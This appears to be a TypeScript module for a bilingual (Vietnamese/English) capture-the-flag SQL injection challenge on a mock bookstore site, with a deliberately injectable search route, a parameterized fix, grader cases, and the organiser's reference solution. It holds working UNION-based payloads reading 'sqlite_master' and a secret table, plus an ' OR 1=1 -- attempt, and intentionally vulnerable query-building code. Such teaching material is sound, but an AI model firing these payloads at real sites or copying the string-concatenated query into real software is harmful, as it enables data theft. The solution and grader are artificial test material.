import { createSite, esc, html, page } from '../http.ts';
import { runQuery } from '../fixcheck.ts';
import { seen, type ChallengeModule, type ChallengeSolution, type FixCase } from '../types.ts';

const HOST = 'nhasach-phuongnam.test';
const MARK = 'KHOA-BI-MAT';
const seed = (secret: string) => `CREATE TABLE sach (id INTEGER PRIMARY KEY, ten TEXT NOT NULL, gia INTEGER NOT NULL);
INSERT INTO sach (ten, gia) VALUES ('Lập trình Python cơ bản', 85000), ('Lập trình web an toàn', 120000), ('Cơ sở dữ liệu cho người mới', 95000), ('Truyện cổ H''Mông', 60000);
CREATE TABLE bi_mat (ma TEXT, gia_tri TEXT);
INSERT INTO bi_mat VALUES ('khoa_thanh_toan', '${secret.replace(/'/g, "''")}');`;
const FIX_SEED = seed(MARK);

export const VULNERABLE = `// Dựng câu truy vấn tìm sách theo tên. Trả về { sql, params }.
// Builds the book-search query. Returns { sql, params }.
function buildSearchQuery(q) {
  return {
    sql: "SELECT ten, gia FROM sach WHERE ten LIKE '%" + q + "%' ORDER BY ten",
    params: []
  };
}`;

const REFERENCE = `function buildSearchQuery(q) {
  return {
    sql: "SELECT ten, gia FROM sach WHERE ten LIKE '%' || ? || '%' ORDER BY ten",
    params: [q]
  };
}`;

const leaks = (rows: unknown[][] | null) => rows === null || rows.some((r) => r.some((v) => String(v).includes(MARK)));
const blocked = (q: string, vi: string, en: string): FixCase => ({ kind: 'exploit', label: { vi, en }, args: [q], judge: (o, env) => o.ok && !leaks(runQuery(env, FIX_SEED, o.value)) });
const finds = (q: string, titles: string[]): FixCase => ({
  kind: 'normal', label: { vi: `Tìm “${q}” ra ${titles.length} sách`, en: `Searching “${q}” finds ${titles.length} book(s)` }, args: [q],
  judge: (o, env) => { const rows = o.ok ? runQuery(env, FIX_SEED, o.value) : null; return !!rows && JSON.stringify(rows.map((r) => r[0]).sort()) === JSON.stringify([...titles].sort()); },
});

export const sqliUnion: ChallengeModule = {
  id: 'sqli-union',
  start: `http://${HOST}/tim?q=python`,
  usesSql: true,
  createSite: ({ flag, sql }) => {
    const db = new sql.Database();
    db.exec(seed(flag));
    return createSite([{ host: HOST, routes: {
      'GET /tim': (_r, url) => {
        const q = url.searchParams.get('q') ?? '';
        const query = `SELECT ten, gia FROM sach WHERE ten LIKE '%${q}%' ORDER BY ten`;
        try {
          const rows = db.exec(query)[0]?.values ?? [];
          return html(page('Nhà sách Phương Nam', `<h1>Nhà sách Phương Nam</h1><form action="/tim"><input name="q" value="${esc(q)}"><button>Tìm</button></form><table>${rows.map((r) => `<tr><td>${esc(String(r[0]))}</td><td>${esc(String(r[1]))}đ</td></tr>`).join('')}</table>`));
        } catch (e) {
          return html(page('Lỗi', `<p>SQLite: ${esc((e as Error).message)}</p>`), 500);
        }
      },
    } }]);
  },
  fix: {
    fn: 'buildSearchQuery', language: 'javascript', vulnerable: VULNERABLE,
    cases: [
      blocked("zzz' UNION SELECT ma, gia_tri FROM bi_mat --", 'Chặn UNION đọc bảng bi_mat', 'Block UNION reading table bi_mat'),
      blocked("%' UNION SELECT gia_tri, 1 FROM bi_mat WHERE '1'='1", 'Chặn UNION không dùng chú thích', 'Block UNION without a comment'),
      blocked("' AND 0 UNION SELECT gia_tri, ma FROM bi_mat --", 'Chặn UNION đảo cột', 'Block UNION with columns swapped'),
      finds('Lập trình', ['Lập trình Python cơ bản', 'Lập trình web an toàn']),
      finds("H'Mông", ["Truyện cổ H'Mông"]),
      finds('không có sách này', []),
    ],
  },
};

/** The organiser's reference solution and a beginner's naive attempt (never bundled into the player's page). */
export const sqliUnionSolution: ChallengeSolution = {
  async solve(c) {
    const tables = await c.get(`http://${HOST}/tim?q=${encodeURIComponent("zzz' UNION SELECT name, sql FROM sqlite_master --")}`);
    const secret = await c.get(`http://${HOST}/tim?q=${encodeURIComponent("zzz' UNION SELECT ma, gia_tri FROM bi_mat --")}`);
    return seen(tables, secret);
  },
  async naive(c) {
    return seen(await c.get(`http://${HOST}/tim?q=${encodeURIComponent("' OR 1=1 --")}`), await c.get(`http://${HOST}/tim?q=${encodeURIComponent('bi_mat')}`));
  },
  reference: REFERENCE,
};
